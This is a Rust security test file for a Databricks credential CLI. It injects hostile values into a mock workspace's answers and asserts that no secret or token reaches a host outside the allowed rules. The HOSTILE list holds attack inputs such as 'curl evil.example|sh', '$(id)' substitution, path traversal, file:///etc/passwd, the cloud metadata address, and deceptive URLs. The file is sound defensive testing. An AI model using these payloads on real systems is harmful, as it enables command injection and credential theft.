//! Where a secret goes: every command, as a process, at a workspace in whose answers a text is
//! hostile. No server outside SECURITY.md's rules is contacted, no job's token is asked for an
//! audience of the answer's choice, and no printed, written or inherited host lies outside the rules.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::process::{Command, Output, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use serde_json::Value;

use lakebase_token::credential::destination::is_database_host;

use super::{BOTH, Class, holds, times};
use crate::identities::{Around, KNOWN, Known};
use crate::leaks::piece_of;
use crate::sandbox::identity_services::{AZURE_HOST, GITHUB_ISSUER, GITHUB_SUBJECT, Policy};
use crate::sandbox::request_rules::Judged;
use crate::sandbox::workspace::{CLIENT_ID, CLIENT_SECRET, Consent, PAT};
use crate::support::{Dice, Test, executable, has};

const ENTRA_HOSTS: [&str; 2] = ["login.microsoftonline.com", "management.azure.com"];

/// Texts that would lead a client elsewhere, or a shell, a path or a terminal astray. PORT is that of
/// a server that must never be asked.
const HOSTILE: [&str; 34] = [
    "evil.example",
    "https://evil.example/oidc/v1/token",
    "https://evil.example",
    "http://127.0.0.1:PORT/oidc/v1/token",
    "https://127.0.0.1:PORT",
    "127.0.0.1",
    "127.0.0.1:PORT",
    "http://169.254.169.254/metadata/identity/oauth2/token",
    "http://login.microsoftonline.com/x",
    "//evil.example/x",
    "https://adb-1.6.azuredatabricks.net@evil.example/",
    "https://adb-1.6.azuredatabricks.net.evil.example/",
    "https://evilazuredatabricks.net/",
    "file:///etc/passwd",
    "/tmp/evil",
    "@evil",
    "evil.example,ep-x.cloud.databricks.com",
    "ep-x.cloud.databricks.com,evil.example",
    "host=evil.example user=x",
    "ep-x.cloud.databricks.com:5433",
    "ep-x.cloud.databricks.com\nevil.example",
    "-evil.example",
    "--debug",
    "../../../../tmp/evil",
    "projects/../../evil",
    "projects/shop;curl evil.example|sh;",
    "projects/shop/branches/$(id)",
    "sts.amazonaws.com",
    "api://evil",
    "evil\u{1b}[2J\u{7}",
    "evil\u{202e}gnp",
    "",
    "eyJhbGciOiJub25lIn0.eyJhdWQiOiJldmlsIn0.x",
    "x\0y",
];

/// Replaces one value somewhere in an answer. Returns whether there was one.
fn make_hostile(value: &mut Value, dice: &mut Dice, hostile: &str) -> bool {
    fn texts(value: &mut Value) -> Vec<&mut Value> {
        match value {
            Value::Object(fields) => fields.values_mut().flat_map(texts).collect(),
            Value::Array(items) => items.iter_mut().flat_map(texts).collect(),
            text => vec![text],
        }
    }
    let mut texts = texts(value);
    if texts.is_empty() {
        return false;
    }
    let chosen = dice.roll(texts.len());
    *texts[chosen] = hostile.into();
    true
}

/// A server that records what it is sent.
fn recorder() -> (u16, Arc<Mutex<Vec<u8>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let received = Arc::new(Mutex::new(Vec::new()));
    let record = received.clone();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut bytes = vec![b'!'; 4096];
            let size = stream.read(&mut bytes).unwrap_or(0);
            record.lock().unwrap().extend(&bytes[..size.max(1)]);
        }
    });
    (port, received)
}

/// The command lines. FILE is a file in the home.
const LINES: [&str; 23] = [
    "get",
    "get -f json",
    "get -f url",
    "get -f env",
    "get -f pgpass",
    "get -f libpq-json",
    "get --for workspace -f header",
    "get -f json --pg-host ep-x.database.us-east-1.cloud.databricks.com",
    "get -f json --instance legacy",
    "get -f json --endpoint projects/shop",
    "get -f json --endpoint projects/shop/branches/production",
    "exec -- /bin/sh -c env>child",
    "exec --for workspace -- /bin/sh -c env>child",
    "write pgpass",
    "write file FILE --format libpq-json",
    "write databrickscfg --to written",
    "write secret --scope s --key k --create-scope",
    "watch pgpass",
    "service install pgpass",
    "login",
    "login --no-browser",
    "login --pat",
    "doctor",
];

/// How many hosts were found in what was printed, written or inherited.
static HOSTS: AtomicUsize = AtomicUsize::new(0);

/// The hosts to which a reader of this output would send the password.
fn hosts(line: &str, stdout: &str, test: &Test) -> Vec<String> {
    let read = |name: &str| fs::read_to_string(test.home.path().join(name)).unwrap_or_default();
    let mut hosts = Vec::new();
    for text in [stdout.to_owned(), read("FILE")] {
        for object in text.lines().filter_map(|line| serde_json::from_str::<Value>(line).ok()) {
            let is_report = line == "doctor" || line.contains("workspace");
            hosts.extend(object["host"].as_str().filter(|_| !is_report).map(str::to_owned));
        }
        for url in text.lines().filter(|line| line.starts_with("postgresql://")) {
            let authority = url.rsplit_once('@').unwrap().1;
            hosts.push(authority.split(['/', ':']).next().unwrap().to_owned());
        }
        let exported = text.lines().filter_map(|line| line.strip_prefix("export PGHOST='"));
        hosts.extend(exported.map(|rest| rest.trim_end_matches("';").to_owned()));
    }
    let child = read("child");
    hosts.extend(child.lines().filter_map(|l| l.strip_prefix("PGHOST=")).map(str::to_owned));
    let lines = if line == "get -f pgpass" { stdout.to_owned() } else { read(".pgpass") };
    hosts.extend(lines.lines().map(|line| line.split(':').next().unwrap().to_owned()));
    hosts
}

/// One command at a hostile workspace; nothing if it came to no hostile answer.
fn try_once(
    around: &Around,
    provider: &Known,
    line: &str,
    hostile: &str,
    seed: u64,
    connected: &Mutex<Vec<String>>,
    received: &Mutex<Vec<u8>>,
) -> Option<(bool, Result<(), String>)> {
    let mut test = around.configured(provider);
    let home = test.home.path().display().to_string();
    test.set("DATABRICKS_HOST", AZURE_HOST).unset("LAKEBASE_ENDPOINT");
    test.set("XDG_STATE_HOME", &format!("{home}/state"));
    // The service manager and psql are scripts that succeed; the browser is curl.
    for name in ["systemctl", "loginctl", "psql"] {
        test.program(name, "#!/bin/sh\nenv >>\"$HOME/child\"\n");
    }
    // A person's browser goes where the workspace's pages lead it; what it connects to is not noted.
    let proxy = around.workspace.proxy(|_| true);
    let browser =
        format!("#!/bin/sh\nexec curl -sSL --max-time 2 -x {proxy} -o /dev/null \"$1\"\n");
    let browser = test.program("browser", &browser).display().to_string();
    test.set("BROWSER", &browser).set("PATH", &format!("{home}/bin:/usr/bin:/bin"));
    if line.starts_with("login") {
        for name in ["DATABRICKS_CLIENT_ID", "DATABRICKS_CLIENT_SECRET", "DATABRICKS_TOKEN"] {
            test.unset(name);
        }
    }

    connected.lock().unwrap().clear();
    received.lock().unwrap().clear();
    let mut dice = Dice(seed);
    let answers = dice.roll(6);
    let text = hostile.to_owned();
    let mut seen = 0;
    let was_given = Arc::new(AtomicBool::new(false));
    let given = was_given.clone();
    {
        let mut state = around.workspace.state();
        state.requests.clear();
        state.consent = Consent::Allow;
        state.change_answer = Some(Box::new(move |_, value| {
            // Some answers before it stay as they are, so that the later ones are reached.
            seen += 1;
            if seen > answers && make_hostile(value, &mut dice, &text) {
                given.store(true, Ordering::SeqCst);
            }
        }));
    }

    let mut command = Command::new("timeout");
    let seconds = if line.starts_with("watch") { "1" } else { "10" };
    command
        .arg(seconds)
        .arg(executable())
        .args(line.replace("FILE", &format!("{home}/FILE")).split(' '));
    if !line.contains("--timeout") && !line.starts_with("exec") {
        command.args(["--timeout", "2s"]);
    }
    command.env_clear().envs(test.env.iter().cloned()).current_dir(&home);
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    let pasted = if line == "login --pat" { PAT } else { "https://evil.example/?code=c&state=s" };
    let _ = writeln!(child.stdin.take().unwrap(), "{pasted}");
    let output = child.wait_with_output().unwrap();
    around.workspace.state().change_answer = None;
    if !was_given.load(Ordering::SeqCst) {
        return None;
    }
    let held = check(around, provider, line, &test, &output, connected, received);
    Some((output.status.success(), held))
}

/// An error says which rule did not hold.
fn check(
    around: &Around,
    provider: &Known,
    line: &str,
    test: &Test,
    output: &Output,
    connected: &Mutex<Vec<String>>,
    received: &Mutex<Vec<u8>>,
) -> Result<(), String> {
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let allowed = |request: &String| {
        let host = request.strip_prefix("CONNECT ").and_then(|rest| rest.split(':').next());
        host.is_some_and(|host| {
            host == AZURE_HOST || provider.name.contains("azure") && ENTRA_HOSTS.contains(&host)
        })
    };
    let connected = connected.lock().unwrap();
    let elsewhere = connected.iter().find(|request| !allowed(request));
    holds(elsewhere.is_none(), || format!("connected to {elsewhere:?}\n{stderr}"))?;
    let received = received.lock().unwrap();
    holds(received.is_empty(), || format!("sent {:?}", String::from_utf8_lossy(&received)))?;

    for request in around.workspace.state().requests.iter().filter(|r| r.path == "/github/token") {
        let audience = request.value("audience").unwrap_or_default();
        let is_ours = audience.starts_with(&format!("https://{AZURE_HOST}/"))
            || audience == format!("https://{AZURE_HOST}")
            || [CLIENT_ID, "api://AzureADTokenExchange", ""].contains(&audience.as_str())
            || audience == "7f0e1c2d-0000-4000-8000-000000000001";
        holds(is_ours, || format!("asked for the audience {audience}"))?;
    }
    let code = output.status.code();
    let is_stopped = code == Some(124) && line.starts_with("watch");
    holds(is_stopped || matches!(code, Some(0..=5 | 125)), || format!("{code:?}\n{stderr}"))?;
    for host in hosts(line, &stdout, test) {
        HOSTS.fetch_add(1, Ordering::SeqCst);
        holds(is_database_host(&host, AZURE_HOST), || format!("gave the host {host}"))?;
    }

    let is_odd = |c: char| c.is_control() && c != '\n' || ('\u{202a}'..='\u{202e}').contains(&c);
    holds(!stderr.contains(is_odd), || format!("stderr {stderr:?}"))?;
    let is_text = !line.starts_with("get") && !line.starts_with("exec");
    holds(!is_text || !stdout.contains(is_odd), || format!("stdout {stdout:?}"))?;
    let secrets = [CLIENT_SECRET, PAT];
    let piece = piece_of(&secrets, &stderr);
    holds(piece.is_none(), || format!("leaked {piece:?}: {stderr}"))?;
    holds(!stderr.contains("panicked"), || stderr.clone())
}

#[test]
fn no_answer_decides_where_a_secret_goes() {
    let test = "faults::destinations";
    if !has(test, "timeout") || !has(test, "curl") {
        return;
    }
    let connected = Arc::new(Mutex::new(Vec::new()));
    let noted = connected.clone();
    let around = Around::noting(move |line| {
        let target = line.split(" HTTP").next().unwrap_or_default().to_owned();
        noted.lock().unwrap().push(target);
    });
    let audience = format!("{AZURE_HOST}/oidc/v1/token");
    let policy = Policy::new(GITHUB_ISSUER, GITHUB_SUBJECT, &audience, Some(CLIENT_ID));
    around.workspace.state().policies.push(policy);
    around.workspace.state().judged = Judged::Nothing;
    let (port, received) = recorder();

    // The instance metadata service has an address that no test can take.
    let principal = Known {
        name: "oauth-m2m",
        settings: &[
            ("DATABRICKS_CLIENT_ID", CLIENT_ID),
            ("DATABRICKS_CLIENT_SECRET", CLIENT_SECRET),
        ],
        asks: &[],
        role: None,
    };
    let pat = Known { name: "pat", settings: &[("DATABRICKS_TOKEN", PAT)], asks: &[], role: None };
    let providers: Vec<&Known> =
        KNOWN.iter().filter(|known| known.name != "azure-msi").chain([&principal, &pat]).collect();

    let mut class = Class::new("secrets: where they go", BOTH);
    let mut dice = Dice::seeded(0x5eed_5eed);
    let mut fruitless = 0;
    // A service is refused before any request if its program does not last, as in a clone below /tmp.
    let lasts = !executable().starts_with(std::env::temp_dir());
    let lines: Vec<&str> =
        LINES.into_iter().filter(|line| lasts || !line.starts_with("service")).collect();
    // Each command line in turn. A try counts only if the command came to a hostile answer.
    while class.tried < times(48, 2400) {
        let line = lines[class.tried % lines.len()];
        let provider = providers[dice.roll(providers.len())];
        let hostile = dice.pick(&HOSTILE).replace("PORT", &port.to_string());
        let seed = 1 + dice.roll(1 << 30) as u64;
        let tried = try_once(&around, provider, line, &hostile, seed, &connected, &received);
        fruitless = if tried.is_some() { 0 } else { fruitless + 1 };
        assert!(fruitless < 500, "{line} comes to no hostile answer");
        if let Some((has_delivered, held)) = tried {
            class.ended(has_delivered);
            class.tried(format!("{line}, {}, {hostile:?}, seed {seed}", provider.name), held);
        }
    }
    assert!(HOSTS.load(Ordering::SeqCst) > 0, "no host was ever printed, written or inherited");
    class.end();
}
